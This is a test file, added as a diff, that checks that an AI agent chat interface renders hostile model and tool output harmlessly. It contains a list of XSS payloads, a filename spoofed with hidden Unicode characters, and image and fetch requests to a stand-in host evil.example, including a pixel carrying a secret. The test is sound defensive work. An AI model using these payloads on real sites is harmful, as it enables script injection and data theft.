@@ -1,0 +1,129 @@
+import { expect, test } from "vitest"
+import { z } from "zod"
+import { answer, defineTool } from "../../src/agent/tool.ts"
+import { calls, replies, says } from "../../src/models/script.ts"
+import { scripted } from "../../src/models/scripted.ts"
+import { Site } from "./site.ts"
+
+const EVIL = "http://evil.example"
+
+/** Everything that is known to make a page do something, in one text. */
+const POISON = [
+  `<script>alert(1)</script>`,
+  `<img src=x onerror="alert(2)">`,
+  `<iframe src="${EVIL}/frame"></iframe><object data="${EVIL}/object"></object>`,
+  `<svg onload=alert(3)><style>@import url("${EVIL}/style.css")</style></svg>`,
+  `![pixel](${EVIL}/pixel.png?secret=1)`,
+  `![data](data:image/svg+xml;base64,PHN2Zy8+)`,
+  `[click](javascript:alert(4)) [data](data:text/html,<script>alert(5)</script>) [own](/api/auth/sign-out) [vb](vbscript:x)`,
+  `[bank](${EVIL}/login)`,
+  `<a href="javascript:alert(6)">raw</a> <form action="${EVIL}/form"><input name=a><button>go</button></form>`,
+  `[ref]: javascript:alert(7)\n\n[ref] ![image][pic]\n\n[pic]: ${EVIL}/ref.png`,
+  `<base href="${EVIL}/"><link rel="stylesheet" href="${EVIL}/x.css"><meta http-equiv="refresh" content="0;url=${EVIL}">`,
+  "```html\n<script>alert(8)</script>\n```",
+  `[^1]\n\n[^1]: <img src="${EVIL}/foot.png">`,
+].join("\n\n")
+
+const HIDDEN = "invoice\u202Efdp.exe\u200B\u2066x\u2069\u{E0041}\u0007"
+
+const poisonous = defineTool({
+  name: "read_web_page",
+  description: "For tests.",
+  input: z.looseObject({}),
+  effect: "read",
+  afterCrash: "run-again",
+  run: () =>
+    answer(POISON, {
+      data: {
+        kind: "table",
+        columns: [POISON, HIDDEN],
+        rows: [
+          [POISON, HIDDEN],
+          [`<b onclick=alert(9)>x</b>`, 1],
+        ],
+      },
+    }),
+})
+
+const write = defineTool({
+  name: "send_mail",
+  description: "For tests.",
+  input: z.looseObject({}),
+  effect: "write",
+  inverse: false,
+  afterCrash: "in-doubt",
+  preview: () => ({
+    summary: `${HIDDEN} ${POISON.slice(0, 300)}`,
+    action: "destructive_update",
+    diff: { before: { [HIDDEN]: POISON, __proto__: { a: 1 } }, after: { [HIDDEN]: `${POISON} changed` } },
+  }),
+  run: () => answer(POISON, { data: { kind: "unheard-of", html: POISON } }),
+})
+
+test("whatever a model, a tool or a title says, nothing runs, nothing loads, and what is hidden is drawn", async () => {
+  const model = scripted(
+    replies(says(POISON), calls("read_web_page", { [HIDDEN]: POISON })),
+    replies(says("And now:"), calls("send_mail", { to: HIDDEN, body: POISON })),
+    says(`${POISON}\n\nThe end.`),
+  )
+  await using site = await Site.open({ model, tools: [poisonous, write] })
+  const ada = await site.ada()
+  const id = await ada.begin({ agent: "test", title: `${HIDDEN}<img src=x onerror=alert(1)>` })
+  const { page, faults } = await site.visit({}, `/c/${id}`)
+  await page.getByRole("textbox", { name: "Message" }).fill(POISON)
+  await page.keyboard.press("Enter")
+  const card = page.getByRole("region", { name: /U\+202E/ })
+  await card.getByRole("button", { name: "Show everything" }).click()
+  // What the eye would miss is written out, in the card and in the title.
+  const shown = await card.innerText()
+  for (const code of ["U+202E", "U+200B", "U+2066", "U+E0041"]) expect(shown).toContain(code)
+  expect(await page.getByRole("heading", { level: 1 }).innerText()).toContain("U+202E")
+  await card.getByRole("button", { name: "Approve", exact: true }).click()
+  await page.getByText("The end.").waitFor()
+  for (const summary of await page.locator("summary").all()) await summary.click({ trial: true }).catch(() => {})
+  await page.evaluate("document.querySelectorAll('details').forEach((each) => (each.open = true))")
+
+  // Not one element of theirs has come into being, and every link leads out only by the person's own hand.
+  const made = await page.evaluate(
+    "[...document.querySelectorAll('#page :is(script, iframe, object, embed, img, style, link, base, meta, form[action])')].map((each) => each.outerHTML)",
+  )
+  expect(made).toEqual([])
+  const links = (await page.evaluate(
+    "[...document.querySelectorAll('#page a[href]')].map(({ href, target, rel, innerText }) => ({ href, target, rel, innerText }))",
+  )) as { href: string; target: string; rel: string; innerText: string }[]
+  const outside = links.filter(({ href }) => !href.startsWith(site.url))
+  expect(outside.length).toBeGreaterThan(0)
+  for (const { href, target, rel, innerText } of outside) {
+    expect(href).toMatch(/^(https?:|mailto:)/)
+    expect([target, rel]).toEqual(["_blank", "noopener noreferrer"])
+    expect(innerText).toContain("evil.example")
+  }
+  expect(links.filter(({ href }) => href.startsWith(site.url)).map(({ href }) => new URL(href).hash)).toEqual(["#main"])
+  await page.reload()
+  await page.getByText("The end.").waitFor()
+  expect(faults).toEqual([])
+})
+
+test("the policy of the page itself stops what would get past it", async () => {
+  await using site = await Site.open({ model: scripted() })
+  const { page, faults } = await site.visit()
+  const outcome = await page.evaluate(`(async () => {
+    const script = document.createElement("script")
+    script.textContent = "window.ran = true"
+    document.body.append(script)
+    // Later, because what a debugger runs may evaluate.
+    const evaluated = await new Promise((resolve) => setTimeout(() => {
+      try { resolve(new Function("return true")()) } catch { resolve(false) }
+    }))
+    const fetched = await fetch(${JSON.stringify(EVIL)}).then(() => true, () => false)
+    const image = new Image()
+    const loaded = await new Promise((resolve) => {
+      image.onload = () => resolve(true)
+      image.onerror = () => resolve(false)
+      image.src = ${JSON.stringify(`${EVIL}/x.png`)}
+    })
+    return { ran: window.ran === true, evaluated, fetched, loaded }
+  })()`)
+  expect(outcome).toEqual({ ran: false, evaluated: false, fetched: false, loaded: false })
+  expect(faults.filter((fault) => fault.startsWith("left:"))).toEqual([])
+})
